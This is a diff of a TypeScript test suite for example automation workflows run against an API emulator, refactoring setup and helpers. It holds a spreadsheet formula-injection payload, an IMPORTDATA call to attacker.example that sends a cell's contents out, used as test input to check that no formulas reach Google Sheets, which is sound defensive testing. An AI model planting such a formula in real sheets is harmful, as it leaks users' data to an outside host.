@@ -1,10 +1,11 @@
 import assert from 'node:assert/strict';
 import { randomUUID } from 'node:crypto';
-import { before, describe, test } from 'node:test';
+import { before, beforeEach, describe, test } from 'node:test';
 
 import fastify from 'fastify';
 
 import type { LedgerEntry } from '../../../emulator/emulator.mts';
+import { SIMPLIFIED_FIELDS } from '../../harness/operations.mts';
 import {
 	executeByWebhook,
 	executeWorkflow,
@@ -22,7 +23,7 @@ import type { RegularMode } from '../harness/regularMode.mts';
 import { sha256 } from '../harness/sha256.mts';
 import { until } from '../harness/until.mts';
 import { activate, buyingAnew, deactivate, saveWorkflow } from '../harness/workflows.mts';
-import type { Workflow } from '../harness/workflows.mts';
+import type { SavedWorkflow, Workflow } from '../harness/workflows.mts';
 
 /** What an execution starts that has failed, and what reads a table. */
 const WITHOUT_OUR_NODE = ['costs-of-the-week-to-slack', 'tell-what-failed'];
@@ -36,11 +37,6 @@ const NEED_N8N_2 = [
 
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
-
-const CHANNEL = new Set(['#research']);
-
-const SIMPLIFIED = ['title', 'text', 'mediaUrl', 'url', 'authorName', 'createdAt'];
-SIMPLIFIED.push('likeCount', 'commentCount', 'id', 'authorId', 'parentId');
 
 const VIDEO_ROW = ['keyword', 'id', 'title', 'author', 'createdAt', 'likes', 'image'];
 
@@ -73,7 +69,24 @@ export function testExamples(world: RegularMode): void {
 		return await executeWorkflow(rest, saved, trigger);
 	}
 
-	const inProduction = (workflow: Workflow) => scheduled(withAccounts(workflow, world.outside));
+	/** An example in production. */
+	const inProduction = async (workflow: Workflow) =>
+		await activate(world, scheduled(withAccounts(workflow, world.outside)));
+
+	/** The calls of one execution of it. */
+	async function callsOf(workflow: SavedWorkflow): Promise<LedgerEntry[]> {
+		const { ledger } = world.emulator;
+		const before = ledger.length;
+		await succeeded(executeByWebhook(world.rest, workflow));
+		return ledger.slice(before);
+	}
+
+	/** A sheet of the user's own, with one column. */
+	const fill = (sheet: string, column: string, values: ReadonlyArray<string | number>) =>
+		world.outside.sheets.fill(
+			sheet,
+			values.map((value) => ({ [column]: value })),
+		);
 
 	function bought(): LedgerEntry[] {
 		return world.emulator.ledger.filter(({ charged }) => charged > 0);
@@ -83,12 +96,12 @@ export function testExamples(world: RegularMode): void {
 		return entries.map(({ key, page }) => `${key} ${page}`).sort();
 	}
 
-	function fresh(): void {
-		world.emulator.reset();
-		world.outside.forget();
-	}
-
 	describe('examples', () => {
+		beforeEach(() => {
+			world.emulator.reset();
+			world.outside.forget();
+		});
+
 		/** The versions of each type of node. */
 		const known = new Map<string, number[]>();
 		before(async () => {
@@ -115,7 +128,6 @@ export function testExamples(world: RegularMode): void {
 		}
 
 		test('keyword-image-search', async () => {
-			fresh();
 			const workflow = example('keyword-image-search');
 			assert.deepEqual(outsideNodes(workflow), []);
 			const execution = await succeeded(run(workflow));
@@ -132,7 +144,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('images-to-google-drive', async () => {
-			fresh();
 			const { emulator, outside } = world;
 			const fileAt = (path: string) => Buffer.from(`The file of ${path}`);
 			const media = fastify({ forceCloseConnections: true });
@@ -169,7 +180,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('article-comments-and-replies', async () => {
-			fresh();
 			const execution = await succeeded(run(example('article-comments-and-replies')));
 			const answered = execution.json('With replies').map(({ contentid }) => contentid);
 			assert.ok(answered.length > 1);
@@ -187,7 +197,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('note-comments-and-replies', async () => {
-			fresh();
 			const execution = await succeeded(run(example('note-comments-and-replies')));
 			const notes = execution.json('Notes').map(({ parentId }) => parentId);
 			const calls = bought();
@@ -208,41 +217,34 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('balance-to-slack', async () => {
-			fresh();
-			const workflow = await activate(world, inProduction(example('balance-to-slack')));
-			const tells = async (balance: number) => {
+			const workflow = await inProduction(example('balance-to-slack'));
+			for (const [balance, told] of [
+				[5, 0],
+				[4.5, 1],
+			]) {
 				world.emulator.configure({ freeRoutes: { balance: 'there' }, balance });
-				await succeeded(executeByWebhook(world.rest, workflow));
-				return world.outside.messages.length;
-			};
-			assert.equal(await tells(5), 0);
-			assert.equal(await tells(4.5), 1);
-			assert.deepEqual(world.emulator.ledger, []);
+				assert.deepEqual(await callsOf(workflow), []);
+				assert.equal(world.outside.messages.length, told);
+			}
 		});
 
 		test('new-videos-to-google-sheets', async () => {
-			fresh();
-			const { rest, outside, emulator } = world;
+			const { outside, emulator } = world;
 			const hostile = changed(example('new-videos-to-google-sheets'), 'New videos', {
 				// The first character of an expression.
 				parameters: { keyword: `=${FORMULA}` },
 			});
-			const workflow = await activate(world, inProduction(hostile));
-			const ids = () => outside.sheets.rows('Add to sheet').map(({ id }) => id);
-			const bought = async () => {
-				await succeeded(executeByWebhook(rest, workflow));
-				return emulator.summary().calls;
-			};
-			assert.equal(await bought(), 3);
-			assert.equal(ids().length, 55);
-			assert.deepEqual(outside.sheets.headings('Add to sheet'), SIMPLIFIED);
-			assert.equal(await bought(), 4);
+			const workflow = await inProduction(hostile);
+			const rows = () => outside.sheets.rows('Add to sheet');
+			assert.equal((await callsOf(workflow)).length, 3);
+			assert.equal(rows().length, 55);
+			assert.deepEqual(outside.sheets.headings('Add to sheet'), SIMPLIFIED_FIELDS);
+			assert.equal((await callsOf(workflow)).length, 1);
 			emulator.changeList('fetch_search_videos', FORMULA, { add: 2 });
-			await bought();
-			assert.equal(ids().length, 57);
-			assert.equal(new Set(ids()).size, 57);
-			const titles = outside.sheets.rows('Add to sheet').map(({ title }) => String(title));
-			assert.ok(titles.some((title) => title.startsWith('=')));
+			await callsOf(workflow);
+			assert.equal(rows().length, 57);
+			assert.equal(new Set(rows().map(({ id }) => id)).size, 57);
+			assert.ok(rows().some(({ title }) => String(title).startsWith('=')));
 			assert.deepEqual(outside.sheets.formulas(), []);
 		});
 
@@ -269,20 +271,7 @@ export function testExamples(world: RegularMode): void {
 			}
 		}
 
-		test('new-posts-to-slack', async () => {
-			fresh();
-			const { messages } = world.outside;
-			const { status } = await newPosts(example('new-posts-to-slack'));
-			assert.equal(status, 'success');
-			assert.deepEqual(new Set(messages.map(({ channel }) => channel)), CHANNEL);
-			const texts = messages.map(({ text }) => text);
-			assert.equal(texts.length, 12);
-			for (const text of texts) assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
-			assert.match(texts.join(), /&lt;/);
-		});
-
 		test('new-posts-to-slack: Slack refuses messages, and none is lost', async () => {
-			fresh();
 			const { rest, outside, emulator } = world;
 			const impatient = changed(example('new-posts-to-slack'), 'Post to Slack', {
 				waitBetweenTries: 100,
@@ -294,14 +283,16 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(outside.messages.length, 7);
 			const { calls } = emulator.summary();
 			await succeeded(retryExecution(rest, failed, false));
+			assert.equal(emulator.summary().calls, calls);
 			const texts = outside.messages.map(({ text }) => text);
 			assert.equal(texts.length, 12);
 			assert.equal(new Set(texts).size, 12);
-			assert.equal(emulator.summary().calls, calls);
+			assert.ok(outside.messages.every(({ channel }) => channel === '#research'));
+			for (const text of texts) assert.doesNotMatch(text, /undefined|null|[<>]|&(?!amp|lt|gt)/);
+			assert.match(texts.join(), /&lt;/);
 		});
 
 		test('agent-research', async () => {
-			fresh();
 			const { emulator, model } = world;
 			const keyword = 'sourdough bread';
 			const search = {
@@ -325,7 +316,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('agent-research: the model never comes to an answer, and Result says what was spent', async () => {
-			fresh();
 			const { emulator, model } = world;
 			const look = (turn: number) => ({ tool: 'Search_videos', input: { keyword: `rye ${turn}` } });
 			model.plays(...Array.from({ length: 12 }, (_, turn) => [look(turn)]), 'Too late.');
@@ -339,7 +329,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('agent-with-one-cap', async () => {
-			fresh();
 			const { emulator, model } = world;
 			const endpoint = '/api/v1/notes/app_v2/search_images';
 			const runs = ['rye', 'oat', 'corn', 'wheat', 'malt', 'rice', 'teff'].map((keyword) => [
@@ -359,111 +348,47 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('many-keywords-from-a-sheet', async () => {
-			fresh();
-			const { rest, outside, emulator } = world;
+			const { outside, emulator } = world;
 			const { sheets, messages } = outside;
-			const workflow = await activate(world, inProduction(example('many-keywords-from-a-sheet')));
+			const workflow = await inProduction(example('many-keywords-from-a-sheet'));
 			const keywords = ['kites', 'broken', FORMULA, 'bridges'];
-			sheets.fill(
-				'Keywords',
-				keywords.map((keyword) => ({ keyword })),
-			);
-			emulator.addFault({
-				kind: 'refused',
-				httpStatus: 400,
-				match: { key: 'broken' },
-				times: null,
-			});
-			const morning = async () => {
-				const before = emulator.ledger.length;
-				await succeeded(executeByWebhook(rest, workflow));
-				return emulator.ledger.slice(before).map(({ key }) => key);
-			};
-			const inOrder = (costs: ReadonlyArray<Record<string, unknown>>) =>
-				costs.toSorted(
-					(a, b) => keywords.indexOf(String(a.keyword)) - keywords.indexOf(String(b.keyword)),
-				);
-			await morning();
+			fill('Keywords', 'keyword', keywords);
+			const match = { key: 'broken' };
+			emulator.addFault({ kind: 'refused', httpStatus: 400, match, times: null });
+			await callsOf(workflow);
 			assert.deepEqual(sheets.headings('Videos'), VIDEO_ROW);
-			const delivered = keywords.filter((keyword) => keyword !== 'broken');
 			const videos = () => sheets.rows('Videos');
-			assert.deepEqual(
-				delivered.map((word) => videos().filter(({ keyword }) => keyword === word).length),
-				[20, 20, 20],
-			);
+			assert.equal(videos().length, 60);
 			for (const { keyword, id } of videos()) {
 				const entry = emulator.ledger.find(({ recordIds }) => recordIds.includes(String(id)));
 				assert.equal(entry?.key, keyword);
 			}
 			assert.ok(videos().some(({ title }) => String(title).startsWith('=')));
 			assert.deepEqual(sheets.formulas(), []);
+			const costs = sheets.rows('Costs').map((row) => [row.keyword, row.records, row.cost]);
 			assert.deepEqual(
-				inOrder(sheets.rows('Costs')).map(({ keyword, records, calls, cost, reason }) => {
-					return { keyword, records, calls, cost, reason };
-				}),
-				[
-					{ keyword: 'kites', records: 20, calls: 1, cost: 0.015, reason: 'limit' },
-					{ keyword: 'broken', records: 0, calls: 1, cost: 0, reason: 'failure' },
-					{ keyword: FORMULA, records: 20, calls: 1, cost: 0.015, reason: 'limit' },
-					{ keyword: 'bridges', records: 20, calls: 1, cost: 0.015, reason: 'limit' },
-				],
+				new Set(costs.map(String)),
+				new Set(keywords.map((word) => `${word},${word === 'broken' ? '0,0' : '20,0.015'}`)),
 			);
 			assert.deepEqual(sheets.headings('Costs').slice(-2), ['mayBeCharged', 'next']);
 			assert.equal(messages.length, 1);
-			assert.match(
-				messages[0]!.text,
-				/One keyword needs a look:\n• Failed, 1: broken\nThe gateway refused.*\nOnce this is put right, .*\nThis execution cost \$0\.045\./,
-			);
+			assert.match(messages[0]!.text, /One keyword needs a look:\n• Failed, 1: broken\n/);
 
 			emulator.changeList('fetch_search_videos', 'bridges', { add: 3 });
-			await morning();
+			await callsOf(workflow);
 			assert.equal(videos().length, 63);
 			assert.equal(sheets.rows('Costs').length, 8);
 			assert.equal(new Set(videos().map(({ id }) => id)).size, 63);
 		});
 
-		test('many-keywords-from-a-sheet: shuffled, and cut short at the cap', async () => {
-			fresh();
-			const { rest, outside, emulator } = world;
-			const keywords = Array.from({ length: 12 }, (_, index) => `keyword ${index}`);
-			const workflow = changed(example('many-keywords-from-a-sheet'), 'New videos', {
-				parameters: { maxCost: 0.15, options: { report: true, concurrency: 1 } },
-			});
-			outside.sheets.fill(
-				'Keywords',
-				keywords.map((keyword) => ({ keyword })),
-			);
-			const saved = await activate(world, inProduction(workflow));
-			await succeeded(executeByWebhook(rest, saved));
-			assert.equal(emulator.summary().charged, 0.15);
-			// One order in 12! is the sheet's own.
-			const asked = emulator.ledger.map(({ key }) => key);
-			assert.equal(new Set(asked).size, 10);
-			assert.notDeepEqual(asked, keywords.slice(0, 10));
-			const costs = outside.sheets.rows('Costs');
-			assert.deepEqual(
-				costs
-					.filter(({ reason }) => reason === 'maxCost')
-					.map(({ keyword }) => keyword)
-					.sort(),
-				keywords.filter((keyword) => !asked.includes(keyword)).sort(),
-			);
-			assert.equal(outside.messages.length, 1);
-			assert.match(
-				outside.messages[0]!.text,
-				/2 keywords need a look:\n• Cut by Max Cost, 2: keyword \d+, keyword \d+\n.*Max Cost.*\nRaise Max Cost in \*New videos\*: one page of each keyword costs \$0\.18\.\nThis execution cost \$0\.15\./,
-			);
-		});
-
 		test('tell-what-failed', async () => {
-			fresh();
 			const { rest, outside, emulator } = world;
 			const alert = example('tell-what-failed');
 			const isPublished = world.version.major === 2;
 			const { id } = await (isPublished ? activate(world, alert) : saveWorkflow(rest, alert));
-			const night = inProduction(example('new-videos-to-google-sheets'));
+			const night = example('new-videos-to-google-sheets');
 			const settings = { ...night.settings, errorWorkflow: id };
-			const workflow = await activate(world, { ...night, name: 'Night', settings });
+			const workflow = await inProduction({ ...night, name: 'Night', settings });
 			emulator.addFault({ kind: 'server', httpStatus: 502, match: { page: 2 } });
 			const { status } = await executeByWebhook(rest, workflow);
 			assert.equal(status, 'error');
@@ -490,14 +415,10 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('retry-in-the-morning', async () => {
-			fresh();
 			const { outside, emulator } = world;
 			const { sheets, messages } = outside;
 			const questions = [19550225, 19550226, 19550227];
-			sheets.fill(
-				'Questions',
-				questions.map((question) => ({ question })),
-			);
+			fill('Questions', 'question', questions);
 			const at = async (time: string) => {
 				await succeeded(run(example('retry-in-the-morning'), time));
 				return sheets
@@ -505,14 +426,12 @@ export function testExamples(world: RegularMode): void {
 					.map(({ question, state, reason }) => [question, state, reason]);
 			};
 			const [first, second, third] = questions;
-			const down = (key: number) =>
-				emulator.addFault({
-					kind: 'server',
-					httpStatus: 502,
-					match: { key: String(key), page: 2 },
-				});
-			down(second!);
-			down(third!);
+			const down = (question?: number) => {
+				const match = { key: String(question), page: 2 };
+				emulator.addFault({ kind: 'server', httpStatus: 502, match });
+			};
+			down(second);
+			down(third);
 			assert.deepEqual(await at('Every night at two'), [
 				[first, 'done', 'end'],
 				[second, 'open', 'failure'],
@@ -521,7 +440,7 @@ export function testExamples(world: RegularMode): void {
 			assert.equal(sheets.rows('Answers').length, 55 + 20 + 20);
 			assert.equal(messages.length, 0);
 
-			down(third!);
+			down(third);
 			assert.deepEqual(await at('Every morning at seven'), [
 				[first, 'done', 'end'],
 				[second, 'done', 'end'],
@@ -543,7 +462,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('retry-in-the-morning: the balance is used up', async () => {
-			fresh();
 			const { outside, emulator } = world;
 			const next = '{"list":"another","offset":20}';
 			outside.sheets.fill('Questions', [
@@ -560,7 +478,6 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		test('long-lists-night-by-night', async () => {
-			fresh();
 			const { outside, emulator } = world;
 			const { sheets } = outside;
 			// 14, 26 and 17 pages, at 20 pages a night; a sheet holds the last ID as a number.
@@ -570,10 +487,7 @@ export function testExamples(world: RegularMode): void {
 				[25025320, 830],
 			]);
 			emulator.setList('fetch_user_posts_v2', '25025320', { size: 830 });
-			sheets.fill(
-				'Users',
-				[...sizes.keys()].map((user) => ({ user })),
-			);
+			fill('Users', 'user', [...sizes.keys()]);
 			const calls: number[] = [];
 			for (let night = 1; night <= 4; night++) {
 				const before = emulator.ledger.length;
